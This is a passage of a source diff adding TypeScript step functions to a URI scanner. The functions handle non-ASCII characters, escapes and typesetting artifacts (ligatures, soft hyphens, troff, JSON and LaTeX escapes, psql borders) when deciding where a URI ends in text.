+    } else if (buf[scan.i + 1] === 0x40) {
+      drop(scan.i, scan.i + 1, NO_CHAR);
+      scan.i += 2;
+      return NEXT;
+    } else if (buf[scan.i + 1] === 0x2f || buf[scan.i + 1] === 0x2d || buf[scan.i + 1] === 0x3a) {
+      drop(scan.i, scan.i + 2, NO_CHAR);
+      scan.i += 2;
+      return NEXT;
+    }
+  } else if (b === 0x40 && hasAuthority) {
+    // "@" and "scheme://": no userinfo before a host named "http" with an empty port (RFC
+    // 3986 §3.2 reads it so), nor a path's "@", but the delimiter of a sed command,
+    // "s@http://deb.debian.org@http://mirror.example.org@g": the URI ends before it. And
+    // a URI that such a delimiter opened ends at the next one, as at a closing quote
+    if (atOpened) return STOP;
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+    }
+    if (scan.auth < 0 && !scan.inQuery) {
+      scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+      scan.queryScan = scan.i;
+    }
+    if (scan.auth >= 0 || !scan.inQuery) {
+      const r = schemeSlashesAt(buf, scan.i + 1, n);
+      if (r === MORE_INPUT) {
+        if (!final) return MORE;
+      } else if (r === 1) return STOP;
+    }
+  }
+  scan.i++;
+  return NEXT;
+}
+
+/** the loop's step at a byte past ASCII: a ligature, an IRI's character or the URI's end (scanBare's loop; NEXT, STOP, MORE or NONE) */
+function nonAsciiStep(ctx: ScanContext, b: number): number {
+  const { buf, n, final } = ctx;
+  const { limit, rawStart, s, c1, asciiOnly, breaksBefore, mailto, hasAuthority, authStart, stop } =
+    scan;
+  // a Latin ligature is its letters (chars.ts LIGATURE_LETTERS): "…/conﬁg" is "…/config" —
+  // one drop per letter, in the ligature's 3 bytes; in a URN's NSS too
+  if (b === 0xef && scan.i > c1) {
+    const g = ligatureAt(buf, scan.i, n);
+    if (g === -2 && !final) return MORE;
+    if (g >= 0) {
+      const letters = LIGATURE_LETTERS[g]!;
+      for (let k = 0; k < letters.length; k++) {
+        const to = k === letters.length - 1 ? scan.i + 3 : scan.i + k + 1;
+        drop(scan.i + k, to, LIGATURE + letters.charCodeAt(k));
+      }
+      scan.i += 3;
+      return NEXT;
+    }
+  }
+  if (b >= 0x80 && !asciiOnly) {
+    if (decodeCharAt(buf, scan.i, n, final) < 0) return MORE;
+    // a dash inside a Markdown link's destination is the URI's, as inside "<…>" (RULES.md
+    // "Dashes inside wrappers"; CommonMark §6.3: the destination runs to its ")" or a
+    // blank; RFC 3987 ucschar): "[FY](https://en.wikipedia.org/wiki/Fisher–Yates_shuffle)",
+    // "[FY]: https://…/wiki/Fisher–Yates_shuffle" — in the path, and not last
+    if (utf8.cp >= 0x2010 && utf8.cp <= 0x2015 && scan.i > c1 && scan.destination !== 0) {
+      const next = scan.i + utf8.len;
+      if (next >= n && !final) return MORE;
+      if (scan.auth >= 0) {
+        scan.auth = authorityEnd(buf, scan.auth, scan.i);
+        if (scan.auth < scan.i) scan.auth = -1;
+      }
+      if (scan.auth < 0 && next < n && CLASS[buf[next]!]! & C_PLAIN && buf[next] !== 0x2c) {
+        if (scan.destination === UNKNOWN)
+          scan.destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
+        if (scan.destination === 1) {
+          scan.nonAscii = true;
+          scan.i = next;
+          return NEXT;
+        }
+      }
+    }
+    // a home directory's "~" as a PDF's text has it: pdftotext writes the typewriter
+    // font's tilde as U+223C TILDE OPERATOR (a Word document's as U+02DC SMALL TILDE) —
+    // "http://www.cs.example.edu/∼user/" in a paper's references is "…/~user/" (the
+    // bibliographies hunt). Right after a "/" of the path and before a letter or digit
+    if ((utf8.cp === 0x223c || utf8.cp === 0x2dc) && scan.i > c1 && buf[scan.i - 1] === 0x2f) {
+      const next = scan.i + utf8.len;
+      if (next >= n && !final) return MORE;
+      if (scan.auth >= 0) {
+        scan.auth = authorityEnd(buf, scan.auth, scan.i);
+        if (scan.auth < scan.i) scan.auth = -1;
+      }
+      if (scan.auth < 0 && next < n && CLASS[buf[next]!]! & C_ALNUM) {
+        drop(scan.i, next, 0x7e);
+        scan.i = next;
+        return NEXT;
+      }
+    }
+    // typesetting's invisible break opportunities inside a path, which an e-book's text
+    // keeps (pandoc's and calibre's text of an EPUB, LibreOffice's of a document): a zero
+    // width space after a "/" ("…/\u200Bcollections/\u200Bmanuscripts/…") and a soft
+    // hyphen between two letters ("…/col\u00ADlec\u00ADtions/") — no part of the URI,
+    // dropped, when more of the path follows: after the zero width space a segment of
+    // ASCII URI characters to the next "/", "?", "#" or the run's end (Thai and Japanese put
+    // one between words: "…/docs/\u200BPDF版をご覧"), not the next URI's scheme or a "www."
+    // name (invisibleBreakAt). Not in a fuzzy link's probe (linkify-it's match ends there)
+    if ((utf8.cp === 0x200b || utf8.cp === 0xad) && hasAuthority && scan.i > c1 && !ctx.probe) {
+      const next = scan.i + utf8.len;
+      if (next >= n && !final) return MORE;
+      const x = next < n ? buf[next]! : 0x20;
+      const p = buf[scan.i - 1]!;
+      const letters =
+        (p | 0x20) >= 0x61 && (p | 0x20) <= 0x7a && (x | 0x20) >= 0x61 && (x | 0x20) <= 0x7a;
+      if (utf8.cp === 0x200b ? p === 0x2f && CLASS[x]! & C_ALNUM : letters) {
+        if (scan.auth >= 0) {
+          scan.auth = authorityEnd(buf, scan.auth, scan.i);
+          if (scan.auth < scan.i) scan.auth = -1;
+        }
+        const seg = scan.auth < 0 && utf8.cp === 0x200b ? invisibleBreakAt(buf, next, n, final) : 1;
+        if (seg === MORE_INPUT) return MORE;
+        if (scan.auth < 0 && seg === 1) {
+          drop(scan.i, next, NO_CHAR);
+          scan.nonAscii = true;
+          scan.i = next;
+          return NEXT;
+        }
+      }
+    }
+    // a man page formatted for a UTF-8 terminal hyphenates a long word — a URI too — with
+    // U+2010 HYPHEN (groff's \(hy, groff_char(7)) at the line's end; a soft hyphen (U+00AD)
+    // shows where a word was broken too. Typesetting, not the URI's: it goes on at the next
+    // line (the rules of a "-" at a break, 2396bis App. E), without it — "https://www.kernel
+    // .org/doc/html/lat‐" LF "       est/filesystems/dax.html"
+    if ((utf8.cp === 0x2010 || utf8.cp === 0xad) && scan.i > c1) {
+      let at = scan.i + utf8.len;
+      if (at >= n && !final) return MORE;
+      // (colours turned off before the line break take no room: groff's SGR output,
+      // "…/man‐" ESC "[0m" LF "       " ESC "[1mual/")
+      if (at < n && buf[at] === 0x1b) {
+        const e = csiRunEnd(buf, at, n);
+        if (e === MORE_BYTES) {
+          if (!final) return MORE;
+        } else at = e;
+        if (at >= n && !final) return MORE;
+      }
+      if (
+        at < n &&
+        (buf[at] === 0x0a || buf[at] === 0x0d) &&
+        scan.i < breaksBefore &&
+        scan.i >= ctx.breakFrom
+      ) {
+        const h = hyphenBreak(buf, s, at, n, final);
+        if (h === MORE_INPUT) return MORE;
+        if (h > 0) {
+          drop(scan.i, h, HYPHENATION);
+          scan.i = h;
+          return NEXT;
+        }
+      }
+      if (utf8.cp === 0x2010) return STOP;
+    }
+    // "↵" (U+21B5) before a line's end or a table's border is psql's mark of a line break
+    // inside a cell (its unicode linestyle's nl_right, PostgreSQL src/fe_utils/print.c), not
+    // the URI's: "url │ https://a.example/x↵" LF "    │ next line"
+    if (utf8.cp === 0x21b5 && scan.i > c1) {
+      const next = scan.i + utf8.len;
+      if (next + 3 > n && !final) return MORE;
+      const x = next < n ? buf[next]! : 0x0a;
+      if (x === 0x0a || x === 0x0d || borderAt(buf, next, n) === 3) return STOP;
+    }
+    if (privateUse(utf8.cp)) {
+      // RFC 3987 §2.2: iprivate only in the query (not past a "#")
+      scan.part = uriPartAfter(buf, scan.partScan, scan.i, scan.part);
+      scan.partScan = scan.i;
+      if (scan.part !== IN_QUERY) return STOP;
+    }
+    if (!iriCodePoint(utf8.cp)) {
+      // an ideographic full stop between two labels of a host is its dot (RFC 3490 §3.1:
+      // U+3002, U+FF0E, U+FF61 "MUST be recognized as dots"; RFC 3987 §3.1 maps an IRI's
+      // host through ToASCII): "http://日本。jp/", "http://www。google。com" — when ASCII
+      // labels follow it to the host's end (labelsToHostEnd). Otherwise it is the
+      // sentence's full stop, as Chinese and Japanese text writes it before a number or a
+      // word ("详见http://example.com。2024年起", "http://localhost。1. next")
+      const d = utf8.cp;
+      // general punctuation inside a Markdown link's destination is the URI's, as a dash is
+      // above (CommonMark §6.3: the destination runs to its ")"; RFC 3987 ucschar):
+      // "[text](http://www.google.com/search?q=…)" (lowdown's link-unicode.md) — past the
+      // host, before more of the destination or its ")"; not a space, a bidi control, nor
+      // a typographic apostrophe (below)
+      if (
+        d >= 0x2016 &&
+        d <= 0x205e &&
+        d !== 0x2019 &&
+        !(d >= 0x2028 && d <= 0x202f) &&
+        scan.i > c1 &&
+        scan.destination !== 0
+      ) {
+        const next = scan.i + utf8.len;
+        if (next >= n && !final) return MORE;
+        if (scan.auth >= 0) {
+          scan.auth = authorityEnd(buf, scan.auth, scan.i);
+          if (scan.auth < scan.i) scan.auth = -1;
+        }
+        const x = next < n ? buf[next]! : 0x20;
+        if (scan.auth < 0 && ((CLASS[x]! & C_PLAIN && x !== 0x2c) || x === 0x29)) {
+          if (scan.destination === UNKNOWN)
+            scan.destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
+          if (scan.destination === 1) {
+            scan.nonAscii = true;
+            scan.i = next;
+            return NEXT;
+          }
+        }
+      }
+      if (d === 0x2019 && mailto) {
+        scan.mailState = mailtoStateAfter(buf, scan.mailScan, scan.i, scan.mailState);
+        scan.mailScan = scan.i;
+        if (scan.mailState === 1) return STOP; // "mailto:kim@example.com’s"
+      }
+      if (
+        d === 0x2019 &&
+        CLASS[buf[scan.i - 1]!]! & C_ALPHA &&
+        !openedBySingleQuote(buf, s, ctx.lo)
+      ) {
+        // a typographic apostrophe inside a word of the path ("…/eric-schmidt’s-talk/",
+        // Android's PatternsTest) is the path's, as "'" is ("…/wiki/McDonald's"): U+2019 is
+        // an IRI character (RFC 3987 ucschar). Not in the host ("http://example.com’s
+        // page": the sentence's), nor at a word's end (a closing quote), nor before a letter
+        // of another script than Latin (Korean glues particles after a closing ’:
+        // "‘https://github.com/foo/bar’에서"), nor when a ‘ opened the URI
+        const next = scan.i + utf8.len;
+        if (next >= stop) {
+          if (!final && stop === n) return MORE;
+          return STOP;
+        }
+        if (buf[next]! >= 0x80) {
+          // a letter of another script after it: "…/l’été"
+          if (decodeCharAt(buf, next, n, final) < 0) return MORE;
+          if (!latinLetter(utf8.cp)) return STOP;
+        } else if (!(CLASS[buf[next]!]! & C_ALPHA)) return STOP;
+        // … but a possessive "’s" that ends the URI is the sentence's ("see
+        // https://x.example/d’s page"), as it is after a host
+        else if (buf[next] === 0x73) {
+          if (next + 1 >= n && !final) return MORE;
+          const x = next + 1 < n ? buf[next + 1]! : 0x20;
+          if (CLASS[x]! & (C_WS | C_TRAIL) || x === 0x29) return STOP;
+        }
+        if (scan.auth >= 0) {
+          scan.auth = authorityEnd(buf, scan.auth, scan.i);
+          if (scan.auth >= scan.i) return STOP;
+          scan.auth = -1;
+        }
+        scan.nonAscii = true;
+        scan.i = next;
+        return NEXT;
+      }
+      // a flag emoji's tags (🏴 U+E0067 U+E0062 …: no ucschar): the flag is glued text, base
+      // and all — "https://t.co/abc🏴…" is "https://t.co/abc"
+      if (d >= 0xe0020 && d <= 0xe007f && scan.i - 4 > s && isBlackFlag(buf, scan.i - 4)) {
+        scan.i -= 4;
+        return STOP;
+      }
+      // psql's unicode linestyle marks a value it wrapped with "…" before the border (or the
+      // line's end) and after the next line's (psql-linestyles.ts)
+      if (d === 0x2026 && scan.i > c1 && scan.i < breaksBefore && scan.i >= ctx.breakFrom) {
+        const t = psqlUnicodeWrapAt(buf, scan.cellPiece, scan.i, n, final, limit);
+        if (t === MORE_INPUT) return MORE;
+        if (t > 0) {
+          drop(scan.i, t, NO_CHAR);
+          scan.i = t;
+          scan.cellPiece = t;
+          return NEXT;
+        }
+      }
+      // a table's box-drawing border right after the URI's piece: its cell may go on in the
+      // next row (table-cells.ts paddedCellWrapAt)
+      if (
+        (d === 0x2502 || d === 0x2503 || d === 0x2551) &&
+        scan.i > c1 &&
+        scan.i < breaksBefore &&
+        scan.i >= ctx.breakFrom
+      ) {
+        const t = paddedCellWrapAt(buf, scan.cellPiece, scan.i, n, final, limit);
+        if (t === MORE_INPUT) return MORE;
+        if (t > 0) {
+          drop(scan.i, t, NO_CHAR);
+          scan.i = t;
+          scan.cellPiece = t;
+          return NEXT;
+        }
+      }
+      if (!(d === 0x3002 || d === 0xff0e || d === 0xff61) || scan.auth < 0) return STOP;
+      const next = scan.i + utf8.len;
+      const r = labelsToHostEnd(buf, authStart, scan.i, next, stop, final && stop === n);
+      if (r === MORE_INPUT) {
+        if (!final && stop === n) return MORE;
+        return STOP;
+      }
+      if (r === 0) return STOP;
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) {
+        scan.auth = -1;
+        return STOP;
+      }
+      scan.nonAscii = true;
+      scan.i = next;
+      return NEXT;
+    }
+    // "いまなにしてるhttp://example.comいまなにしてる": CJK and Thai text has no spaces
+    // between words, so the URI ends where the script changes inside the host — a DNS
+    // label after a "." (or a port after ":") that began in ASCII does not go on in
+    // Han, kana, Hangul or Thai (no TLD mixes them; RFC 5892 / RFC 5893 label rules).
+    // Paths keep their IRI characters (RFC 3987: "http://ja.wikipedia.org/wiki/東京")
+    // Likewise a symbol, emoji or punctuation mark glued to an ASCII host ends it
+    // ("http://example.com™", "…com🎉", "…com،"): IDNA2008 allows only letters, marks and
+    // digits in a label (RFC 5892), so it is text glued to the URI, not a longer host.
+    // A label that starts with one ("http://✪df.ws/", "http://☺.damowmow.com/") is kept:
+    // such names exist, and peers' suites expect them whole
+    const cp = utf8.cp;
+    if (
+      scan.auth >= 0 &&
+      CLASS[buf[scan.i - 1]!]! & C_ALNUM &&
+      // (U+02BC, the modifier letter apostrophe, is the apostrophe of a Turkish suffix
+      // after a name in some translations, "https://example.orgʼda", as ’ is)
+      (!hostCodePoint(cp) || noSpaceScript(cp) || rtlLetter(cp) || cp === 0x02bc)
+    ) {
+      // is i still inside the authority? (scanned once, left to right: linear)
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else {
+        const r = gluedEndsHost(buf, scan.i, scan.i + utf8.len, n, cp, authStart);
+        if (r === MORE_INPUT) {
+          if (!final) return MORE;
+          return STOP;
+        }
+        if (r === 1) return STOP;
+      }
+    }
+    // a word of a script without spaces right before "scheme://" in a path: the URI ends
+    // after it, and the next one starts there ("http://t.co/abcde한국http://b.example/",
+    // twitter-text) — as a comma or a bracket before one (not in a query: a value may
+    // hold a URI); so does a middle dot, Korean's list separator
+    // ("https://example.kr/a·https://example.kr/b")
+    if ((noSpaceScript(cp) || cp === 0xb7) && hasAuthority) {
+      if (scan.auth >= 0) {
+        scan.auth = authorityEnd(buf, scan.auth, scan.i);
+        if (scan.auth < scan.i) scan.auth = -1;
+      }
+      if (scan.auth < 0 && !scan.inQuery) {
+        scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+        scan.queryScan = scan.i;
+      }
+      if (scan.auth < 0 && !scan.inQuery) {
+        const r = schemeSlashesAt(buf, scan.i + utf8.len, n);
+        if (r === MORE_INPUT) {
+          if (!final) return MORE;
+        } else if (r === 1) {
+          scan.nonAscii = true;
+          scan.i += utf8.len;
+          return STOP;
+        }
+      }
+    }
+    scan.nonAscii = true;
+    scan.i += utf8.len;
+    return NEXT;
+  }
+  return STOP;
+}
+
+/** the loop's step at a backslash: an escape that the URI reads, or its end (scanBare's loop; NEXT, STOP, MORE or NONE) */
+function backslashStep(ctx: ScanContext): number {
+  const { buf, n, final } = ctx;
+  const {
+    limit,
+    rawStart,
+    s,
+    c1,
+    asciiOnly,
+    mailto,
+    colonEscaped,
+    uSlashes,
+    hasAuthority,
+    authStart,
+    stop,
+  } = scan;
+  if (scan.i + 1 >= n) {
+    if (!final) return MORE;
+    return STOP;
+  }
+  const x = buf[scan.i + 1]!;
+  // RFC 8792 line folding: "Location: https://example.com/restconf/data/\" + LF +
+  // "    example-jukebox:jukebox" (RFC 8040's examples) — backslashFold
+  if ((x === 0x0a || x === 0x0d) && colonEscaped) {
+    // a properties value goes on in the next line after its indentation
+    // (java.util.Properties#load: a line that ends in "\\" continues)
+    let f = scan.i + 1;
+    if (buf[f] === 0x0d) f++;
+    if (f >= n) {
+      if (!final) return MORE;
+      return STOP;
+    }
+    if (buf[f] !== 0x0a) return STOP;
+    f++;
+    while (f < n && f - scan.i < 256 && (buf[f] === 0x20 || buf[f] === 0x09)) f++;
+    if (f >= n && !final) return MORE;
+    if (f >= n || !(CLASS[buf[f]!]! & C_URI)) return STOP;
+    drop(scan.i, f, NO_CHAR);
+    scan.i = f;
+    return NEXT;
+  }
+  if (x === 0x0a || x === 0x0d) {
+    const f = backslashFold(buf, s, scan.i, n, final);
+    if (f === MORE_INPUT) return MORE;
+    if (f < 0) return STOP;
+    drop(scan.i, f, NO_CHAR);
+    scan.i = f;
+    return NEXT;
+  }
+  // a colour written as text in a quoted log string ("\\u001b[1m", "\\033[0m"): as the
+  // raw sequence below
+  const t = csiEnd(buf, scan.i, n);
+  if (t === MORE_BYTES) {
+    if (!final) return MORE;
+  } else if (t > 0) {
+    drop(scan.i, t, NO_CHAR);
+    scan.i = t;
+    return NEXT;
+  }
+  // Pygments' escapes in a LaTeX document's code, "\\PYZhy{}" (nbconvert's) or
+  // "\\PYGZhy{}" (Sphinx's), are their characters: `s3://my\\PYZhy{}bucket/…`
+  if (x === 0x50) {
+    const t = pygmentsEscapeEnd(buf, scan.i, n, final);
+    if (t === MORE_INPUT) return MORE;
+    if (t > 0) {
+      drop(scan.i, t, escaped.cp);
+      scan.i = t;
+      return NEXT;
+    }
+  }
+  // LaTeX's "\\textasciitilde" (pandoc's, Sphinx's and docutils' LaTeX writers) is the
+  // URI's "~" past its host: "http://www.x.edu/\\textasciitilde{}ab123/" (the markup hunt)
+  if (x === 0x74) {
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+    }
+    if (scan.auth < 0) {
+      const t = latexTildeEnd(buf, scan.i, n, final);
+      if (t === MORE_INPUT) return MORE;
+      if (t > 0) {
+        drop(scan.i, t, 0x7e);
+        scan.i = t;
+        return NEXT;
+      }
+    }
+  }
+  // a regular expression's escaped "." in a host, written in a JSON string: "\\\\." is
+  // "\\.", which matches the "." (a JSON Schema's `"pattern": "^https://developer\\\\.mozilla\\\\.org/docs/"`);
+  // read as the raw "\\." is (the escaped character is the URI's), not as the host's end
+  if (x === 0x5c && scan.auth >= 0 && scan.i > authStart && CLASS[buf[scan.i - 1]!]! & C_ALNUM) {
+    if (scan.i + 3 >= n) {
+      if (!final) return MORE;
+    } else if (buf[scan.i + 2] === 0x2e && CLASS[buf[scan.i + 3]!]! & C_ALNUM) {
+      drop(scan.i, scan.i + 2, NO_CHAR);
+      scan.i += 2;
+      return NEXT;
+    }
+  }
+  // a string's escaped backslash before a Markdown escape of "_", "~" or "*": pandoc's CSL
+  // YAML keeps Markdown in its double-quoted strings, `url: "https://x.example/cs\\_/pdf"`
+  // (the bibliographies hunt), and so does Reddit's API in a comment's JSON body,
+  // `"body": "see https://e.org/a\\_b"` (the chat hunt) — the character is the URI's
+  if (
+    x === 0x5c &&
+    scan.i + 2 < n &&
+    (buf[scan.i + 2] === 0x5f || buf[scan.i + 2] === 0x7e || buf[scan.i + 2] === 0x2a)
+  ) {
+    drop(scan.i, scan.i + 2, NO_CHAR);
+    scan.i += 2;
+    return NEXT;
+  }
+  // JSON inside JSON — Docker's json-file log of an app that logs JSON, Docker schema1's
+  // v1Compatibility — escapes the escape's own backslash: "\\\\u0026" is the inner
+  // string's "\\u0026", read so where the URI stands inside an escaped string
+  // (`\\"url\\":\\"http://h/items?id=5\\\\u0026x=y\\"`, `\\"Env\\":[\\"URL=https://…`);
+  // and so is JSON text that a format doubling backslashes wrote, wherever four hex digits
+  // follow (PostgreSQL's COPY and pg_dump, `mysqldump --tab`, `mariadb -B`, jq's @tsv,
+  // PHP's var_export: `{"url":"https://x.example/?a=1\\\\u0026b=2"}` — session 40, the
+  // dumps hunt): a "\\" before "u" and a code unit is no URI's
+  let esc = scan.i;
+  if (x === 0x5c && scan.i + 2 < n && buf[scan.i + 2] === 0x75) {
+    if (scan.i + 7 > n && !final) return MORE;
+    if (
+      (scan.i + 7 <= n && hex4(buf, scan.i + 3) >= 0) ||
+      insideEscapedString(buf, rawStart, ctx.lo)
+    )
+      esc = scan.i + 1;
+  } else if (x === 0x5c && scan.i + 2 >= n && !final) return MORE;
+  // (Python's and YAML's eight-digit "\\U0001F600")
+  let long = -1;
+  if (x === 0x55) {
+    long = longUnicodeEscape(buf, scan.i, n, final);
+    if (long === MORE_INPUT) return MORE;
+  }
+  if (x === 0x75 || x === 0x78 || esc > scan.i || long > 0) {
+    // a JSON (or JavaScript, Java, Python) "\\uXXXX" escape inside the URI: Go's
+    // encoding/json writes "&" as "\\u0026" ("https://x.example/?a=1\\u0026b=2"), Python's
+    // json.dumps non-ASCII as "\\u00fc" (an IRI, RFC 3987); or a "\\xHH" escape of a
+    // JavaScript, Python or C string ("…/wiki/M\\xfcnchen", "caf\\xc3\\xa9"). The
+    // character it stands for is the URI's when it is a URI character or an IRI code
+    // point; any other ends it
+    const r =
+      long > 0
+        ? long
+        : esc > scan.i || x === 0x75
+          ? unicodeEscape(buf, esc, n, esc > scan.i)
+          : hexEscape(buf, scan.i, n, final);
+    if (r === MORE_INPUT) {
+      if (!final) return MORE;
+      return STOP;
+    }
+    if (r < 0) return STOP;
+    const cp = escaped.cp;
+    if (cp < 0x80) {
+      // characters whose raw form the scan weighs (quotes, brackets, commas, emphasis
+      // marks) end the URI when escaped; "%" only begins an escape before two hex digits
+      // (an apostrophe, "\\u0027", closes no string that a '"' opened: PHP's
+      // JSON_HEX_APOS, `{"guid":"https://x.example/o\\u0027reilly"}`)
+      if (
+        !(CLASS[cp]! & C_URI) ||
+        (ESCAPE_ENDS[cp] === 1 &&
+          !(cp === 0x2f && uSlashes) &&
+          !(cp === 0x27 && rawStart > ctx.lo && buf[rawStart - 1] === 0x22))
+      ) {
+        return STOP;
+      }
+      if (cp === 0x25) {
+        if (r + 2 > n && !final) return MORE;
+        if (!(isHexByte(buf[r]) && isHexByte(buf[r + 1]))) return STOP;
+      }
+    } else {
+      if (asciiOnly || !iriCodePoint(cp)) return STOP;
+      scan.nonAscii = true;
+    }
+    if (scan.auth >= 0 && scan.i >= authStart) {
+      // in the host: the rules for the raw character (above), glued to an ASCII letter
+      // or digit written as such (not to the hex digits of an escape before it)
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      // (an escaped "/" ends the authority)
+      if (scan.auth < scan.i || cp === 0x2f) scan.auth = -1;
+      else {
+        if (
+          cp >= 0x80 &&
+          CLASS[buf[scan.i - 1]!]! & C_ALNUM &&
+          !(drops.length > 0 && drops[drops.length - 1] === scan.i) &&
+          (!hostCodePoint(cp) || noSpaceScript(cp))
+        ) {
+          const g = gluedEndsHost(buf, scan.i, r, n, cp, authStart);
+          if (g === MORE_INPUT) {
+            if (!final) return MORE;
+            return STOP;
+          }
+          if (g === 1) return STOP;
+        }
+        scan.auth = r;
+      }
+    }
+    drop(scan.i, r, cp);
+    scan.i = r;
+    return NEXT;
+  }
+  // an escaped bracket in a query is its bracket (read percent-encoded, raw-characters.ts):
+  // python3-html2text escapes them in a Markdown destination,
+  // "[open](https://api.example.com/v2/issues?filter\\[status\\]=open)", and a shell
+  // command line so keeps curl from globbing them (session 40, the converters hunt). Not
+  // before the query: "<https://example.com/\\[\\>" ends at its backslash (CommonMark)
+  // (a groff named character, "\\[ti]", is troff's below)
+  if ((x === 0x5b || x === 0x5d) && (hasAuthority || mailto)) {
+    if (scan.auth >= 0) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+    }
+    if (!scan.inQuery && scan.auth < 0) {
+      scan.inQuery = hasQueryMark(buf, scan.queryScan, scan.i);
+      scan.queryScan = scan.i;
+    }
+    const g = scan.inQuery && x === 0x5b ? groffNamed(buf, scan.i, n, final) : 0;
+    if (g === MORE_INPUT) return MORE;
+    if (scan.inQuery && g === 0) {
+      drop(scan.i, scan.i + 1, NO_CHAR);
+      scan.i++;
+      return NEXT;
+    }
+  }
+  if (x === 0x28 || x === 0x5b || x === 0x2a) {
+    // groff's named characters and strings in a raw man page (troffEscape, groff(7),
+    // groff_char(7)): "…/\\[ti]mgk25" is "…/~mgk25"; a quote ("\\(dq", pod2man's
+    // "\\*(Aq" and "\\*(C'") ends the URI as the quote itself would
+    let t = troffEscape(buf, scan.i, n, final);
+    if (t === MORE_INPUT) return MORE;
+    if (x === 0x28 && t !== -1) {
+      // … unless Markdown's "\\)" follows in the word (escapedCloseAhead; looked for
+      // once past the last one found, and within MD_CLOSE_REACH bytes: a word of many
+      // URIs and named characters is not read to maxLength for each)
+      if (scan.mdClose < scan.i + 4 && !(scan.mdClose < 0 && scan.mdScanned >= scan.i + 4)) {
+        const reach = Math.min(limit, scan.i + 4 + MD_CLOSE_REACH);
+        const r = escapedCloseAhead(buf, scan.i + 4, n, reach, final);
+        if (r === MORE_INPUT) return MORE;
+        scan.mdClose = r;
+        scan.mdScanned = r >= 0 ? r : closeScan.end;
+      }
+      if (scan.mdClose >= 0) t = -1;
+      else if (t > 0 && !openParenBefore(buf, rawStart, ctx.lo)) {
+        // (… or a plain ")" closes it, for a name that stands for a character — not when
+        // the URI stands in a parenthesis the text opened: "(see http://x/\\(tiuser/)")
+        const reach = Math.min(limit, scan.i + 4 + MD_CLOSE_REACH);
+        const p = plainCloseAhead(buf, scan.i + 4, n, reach, final);
+        if (p === MORE_INPUT) return MORE;
+        if (p === 1) t = -1;
+      }
+    }
+    if (t === TROFF_ENDS) return STOP;
+    if (t > 0) {
+      // (a non-ASCII character, "\\[u041C]", is an IRI's: RFC 3987 §2.2)
+      if (escaped.cp >= 0x80) {
+        if (asciiOnly || !iriCodePoint(escaped.cp)) return STOP;
+        scan.nonAscii = true;
+      }
+      // in the host a named character ends the URI (the host's rules read raw bytes;
+      // troff writes a host's "-" and "." as "\\-" "\\.") — but "\\[at]" is the
+      // userinfo's "@", as pandoc's man writer escapes every "@" (groff_char(7)):
+      // "git+ssh://git\\[at]git.sr.ht/~p/w.git"
+      if (scan.auth >= 0) {
+        scan.auth = authorityEnd(buf, scan.auth, scan.i);
+        if (scan.auth < scan.i) scan.auth = -1;
+        else if (escaped.cp !== 0x40) return STOP;
+      }
+      drop(scan.i, t, escaped.cp);
+      scan.i = t;
+      return NEXT;
+    }
+  }
+  // a GFM table cell's "\|" in a link's destination is its "|" (GFM §4.10: the cell is
+  // unescaped before its inlines are read): "| [t](https://example.com/a\|b) |" — taken
+  // as a raw "|" is (below)
+  if (x === 0x7c && scan.i > c1) {
+    if (scan.destination === UNKNOWN)
+      scan.destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
+    if (scan.destination === 1) {
+      if (scan.firstPipe < 0) scan.firstPipe = scan.i;
+      drop(scan.i, scan.i + 1, NO_CHAR);
+      scan.i += 2;
+      return NEXT;
+    }
+  }
+  if (x < 0x80 && ESCAPABLE[x] === 1) {
+    // in the host only troff's and JSON's escapes are read (`\-` `\.` `\&` `\%` `\:`,
+    // "\/"): "https://example.com\_Resources\…" is a Windows path glued to the host, and
+    // "_" no DNS name's (reading it would give another host)
+    if (scan.auth >= 0 && HOST_ESCAPABLE[x] !== 1) {
+      scan.auth = authorityEnd(buf, scan.auth, scan.i);
+      if (scan.auth < scan.i) scan.auth = -1;
+      else {
+        // … but a Markdown escape in a name that goes on ("my\_bucket.s3.example.com")
+        // or in a userinfo ("ftp://user\@host/") is read
+        const g = escapeEndsHost(buf, authStart, scan.i, stop);
+        if (g === MORE_INPUT) {
+          if (!final && stop === n) return MORE;
+          return STOP;
+        }
+        if (g === 1) return STOP;
+      }
+    }
+    // troff's zero-width `\&` stands before a dot ("www\&.valgrind\&.org"); elsewhere
+    // it is LaTeX's or Markdown's "&" ("\href{…?a=1\&b=2}"). `\%` before two hex
+    // digits is LaTeX's "%" ("a\%20b"), else troff's hyphenation mark
+    if ((x === 0x26 || x === 0x25) && scan.i + 3 >= n && !final) return MORE;
+    if ((x === 0x28 || x === 0x29) && scan.destination === UNKNOWN) {
+      scan.destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
+    }
+    if (
+      (x === 0x26 && scan.i + 2 < n && buf[scan.i + 2] === 0x2e) ||
+      (x === 0x25 &&
+        !(scan.i + 3 < n && isHexByte(buf[scan.i + 2]) && isHexByte(buf[scan.i + 3]))) ||
+      (x === 0x3a && !colonEscaped)
+    ) {
+      drop(scan.i, scan.i + 2, NO_CHAR); // both bytes dropped
+      scan.i += 2;
+    } else if ((x === 0x28 || x === 0x29) && scan.destination === 1) {
+      // an escaped parenthesis in a Markdown link's destination is the URI's and pairs
+      // with nothing (CommonMark §6.3): "[t](https://example.com/x\\()" is ".../x(", the
+      // link's ")" no partner of it. (In prose "(see https://x.example/a\\)" it closes
+      // the text's parenthesis, as a raw one would)
+      drop(scan.i, scan.i + 1, NO_CHAR);
+      scan.i += 2;
+    } else if (x === 0x7e && scan.i + 3 >= n && !final) {
+      return MORE;
+    } else if (
+      x === 0x7e &&
+      scan.i + 3 < n &&
+      buf[scan.i + 2] === 0x7b &&
+      buf[scan.i + 3] === 0x7d
+    ) {
